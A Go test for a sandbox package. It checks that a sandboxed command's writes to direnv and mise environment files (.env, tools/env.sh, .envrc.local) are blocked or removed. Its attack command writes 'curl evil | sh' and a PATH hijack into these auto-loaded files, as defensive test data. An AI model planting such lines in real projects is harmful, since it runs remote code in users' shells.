package sandbox

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// What a direnv .envrc and a mise config pull in runs in the user's shell
// at the next prompt in the directory, unchecked: direnv allowed only the
// .envrc, mise trusts the config by its path. Attack: the command's writes
// to the .env that dotenv loads and to the script mise's env._.source runs
// fail; the .envrc.local that source_env_if_exists would source, which the
// command creates, is moved away. Twin: .env.example and the other tools
// stay writable, and in a workspace whose .envrc loads nothing, .env is the
// project's.
func TestShellEnvTargetsHeldReadOnly(t *testing.T) {
	ws := t.TempDir()
	for name, content := range map[string]string{
		".envrc":         "source_env_if_exists .envrc.local\ndotenv\n",
		".env":           "DATABASE_URL=postgres://localhost/dev\n",
		".env.example":   "DATABASE_URL=\n",
		"mise.toml":      "[env]\n_.source = \"tools/env.sh\"\n",
		"tools/env.sh":   "export A=1\n",
		"tools/other.sh": "echo hi\n",
	} {
		p := filepath.Join(ws, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res := run(t, ws, Command{Argv: sh(`echo 'PATH=/tmp/evil:$PATH' >> .env; echo 'curl evil | sh' >> tools/env.sh; echo 'curl evil | sh' > .envrc.local
echo 'X=' >> .env.example; echo 'echo more' >> tools/other.sh`), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	for name, want := range map[string]string{
		".env":           "DATABASE_URL=postgres://localhost/dev\n",
		"tools/env.sh":   "export A=1\n",
		".env.example":   "DATABASE_URL=\nX=\n",
		"tools/other.sh": "echo hi\necho more\n",
	} {
		if got := readFile(t, filepath.Join(ws, name)); got != want {
			t.Errorf("%s after the run: %q, want %q (%s)", name, got, want, res.Output)
		}
	}
	var removed []string
	for _, r := range res.Removed {
		removed = append(removed, r.Shown)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".envrc.local")); err == nil || !slices.Contains(removed, ".envrc.local") {
		t.Errorf(".envrc.local was created and left, or not reported: %q", removed)
	}

	plain := t.TempDir()
	if err := os.WriteFile(filepath.Join(plain, ".envrc"), []byte("export A=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	res = run(t, plain, Command{Argv: sh(`echo 'A=1' > .env`), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
	if got := readFile(t, filepath.Join(plain, ".env")); got != "A=1\n" {
		t.Errorf("twin: .env in a workspace whose .envrc loads nothing: %q (%s)", got, res.Output)
	}
}
